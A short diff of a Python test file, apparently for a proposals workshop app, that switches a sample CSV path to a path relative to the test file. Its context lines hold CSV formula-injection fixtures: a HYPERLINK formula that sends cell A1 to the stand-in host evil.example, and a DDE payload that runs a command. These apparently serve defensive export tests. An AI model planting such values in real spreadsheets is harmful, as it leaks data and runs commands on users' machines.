@@ -18,7 +18,7 @@ import pytest
 
 from tests.conftest import Api, Workshop
 
-SAMPLE = Path("/work/shared/data/sample-proposals.csv")
+SAMPLE = Path(__file__).resolve().parent / "data" / "sample-proposals.csv"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
 FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
 FAMILY_TITLE = "Færre høringsrunder på små reguleringsplaner – også i Øyer og Åsnes"
